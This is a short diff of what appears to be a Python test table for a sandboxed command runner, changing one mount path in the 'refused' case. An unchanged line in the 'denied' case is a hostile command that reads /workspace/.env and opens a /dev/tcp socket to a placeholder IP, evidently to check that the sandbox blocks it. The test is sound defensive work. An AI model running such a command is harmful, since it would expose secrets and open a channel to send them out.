@@ -35,7 +35,7 @@ class TestResult:
         "failed": ("exit 3", {}),
         "denied": ("cat /workspace/.env; exec 3<>/dev/tcp/192.0.2.1/80", {}),
         "timeout": ("exec sleep 600", {"proc": {"timeout_ms": "300ms"}}),
-        "refused": ("true", {"fs": {"mounts": [{"path": "/data", "source": "/tmp", "rw": True}]}}),
+        "refused": ("true", {"fs": {"mounts": [{"path": "/data", "source": "/var/tmp", "rw": True}]}}),
         "no text": (r"printf '\377'", {}),
     }
 
